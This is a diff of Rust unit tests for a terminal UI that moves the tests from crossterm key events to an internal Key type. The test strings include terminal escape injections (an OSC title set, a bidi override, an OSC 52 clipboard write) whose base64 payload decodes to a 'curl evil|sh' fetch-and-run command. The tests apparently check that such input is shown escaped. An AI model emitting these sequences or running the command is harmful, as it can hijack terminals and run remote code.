@@ -509,7 +509,7 @@ mod tests {
         for shown in [r"\e]0;pwned\x07Fix\u{202e}gol", r"asks: Bash: \e[2K\rls", r"done\e]52;c;Y3VybCBldmlsfHNo\x07"] {
             assert!(screen.contains(shown), "{shown} is not on screen:\n{screen}");
         }
-        app.key(crossterm::event::KeyEvent::new(crossterm::event::KeyCode::Down, crossterm::event::KeyModifiers::NONE));
+        app.key(crate::view::model::Key::new(crate::view::model::KeyCode::Down));
         let screen = shown(&mut terminal, &app);
         assert!(screen.contains(r"said \u{9b}31mred"), "{screen}");
     }
@@ -521,10 +521,10 @@ mod tests {
 
     #[test]
     fn remove_confirmation_help_and_new_form() {
-        use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
-        let key = |c| KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE);
+        use crate::view::model::{Key, KeyCode};
+        let key = |c| Key::new(KeyCode::Char(c));
         let mut app = app();
-        app.key(KeyEvent::new(KeyCode::Down, KeyModifiers::NONE));
+        app.key(Key::new(KeyCode::Down));
         assert_eq!(app.key(key('d')), None);
         insta::assert_snapshot!("remove_confirmation", render(&app, 100, 24));
         assert!(matches!(app.key(key('y')), Some(Action::Remove { force: true, .. })));
